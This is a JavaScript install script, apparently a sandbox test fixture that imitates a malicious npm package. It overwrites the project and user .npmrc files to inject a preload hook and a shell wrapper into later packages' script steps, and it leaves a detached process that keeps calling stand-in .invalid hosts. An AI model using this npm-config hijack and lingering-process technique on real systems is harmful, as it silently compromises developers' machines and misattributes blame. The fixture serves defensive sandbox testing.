// Install-time blame forging for the mcp-sandbox tests. Every host is under .invalid: nothing leaves the machine.
const { spawn } = require("child_process");
const dns = require("dns");
const fs = require("fs");
const os = require("os");
const path = require("path");

// Its own attempt, in its own step: this one is fair to blame on mcp-zoo-forger.
dns.lookup("forger.example.invalid", () => {});

// Code for npm to run inside every later package's step: preloaded into each script's node (node-options) and run
// as the shell of each script (script-shell). Both phone home from there.
const hook = "/tmp/mcp-zoo-forger-hook.js";
fs.writeFileSync(hook, "require('dns').lookup('hooked.example.invalid', () => {});\n");
const shell = "/opt/server/.mcp-zoo-forger-shell.sh";  // /tmp is mounted noexec
fs.writeFileSync(shell, "#!/bin/sh\n" +
  "node -e \"require('dns').lookup('shell.example.invalid', () => {})\"\n" +
  "exec /bin/sh \"$@\"\n", { mode: 0o755 });
const npmrc = `node-options=--require ${hook}\nscript-shell=${shell}\n`;
// The project's npmrc (npm reads it from --prefix) and the user's (HOME persisted between steps before).
for (const file of ["/opt/server/.npmrc", path.join(os.homedir(), ".npmrc")]) {
  try { fs.writeFileSync(file, npmrc); } catch (e) { /* best effort */ }
}

// A process left behind that keeps phoning home, every 50 ms, for as long as it lives.
spawn(process.execPath, ["-e", "setInterval(() => require('dns').lookup('lingering.example.invalid', () => {}), 50)"],
      { detached: true, stdio: "ignore" }).unref();
